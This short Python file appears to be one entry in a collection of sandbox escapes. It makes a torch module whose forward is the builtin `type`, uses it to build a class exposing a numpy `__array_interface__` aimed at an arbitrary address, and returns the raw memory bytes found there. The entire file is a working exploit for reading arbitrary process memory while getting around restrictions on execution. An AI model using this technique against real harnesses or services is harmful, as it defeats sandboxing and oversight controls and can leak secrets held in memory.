"""Class: class machinery. Source: own find. Escape: a module's forward is `type`, called by torch."""

import numpy as np
from torch import nn


class M(nn.Module):
    forward = type


def attack(model, tokenizer, address):
    interface = {"shape": (6,), "typestr": "|u1", "data": (address, True), "version": 3}
    made = M()("Lie", (), {"__array_interface__": interface})
    return np.array(made()).tobytes()
